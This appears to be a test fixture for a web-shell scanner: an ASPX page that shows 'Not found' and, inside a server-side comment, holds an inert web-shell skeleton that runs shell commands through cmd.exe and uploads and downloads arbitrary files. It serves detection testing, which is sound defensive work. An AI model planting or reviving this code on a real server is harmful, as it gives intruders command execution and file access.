<%-- cellwatch test fixture: an inert shape of a web shell, inside a server-side comment; it runs nothing.
<%@ Page Language="C#" %>
void Run(string c) { var p = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + c); System.Diagnostics.Process.Start(p); }
void Up() { Request.Files[0].SaveAs(Request.Form["to"]); /* PostedFile */ }
void Down(string f) { Response.AddHeader("Content-Disposition", "attachment;filename=" + f); Response.TransmitFile(f); }
--%>
<html><body>Not found</body></html>
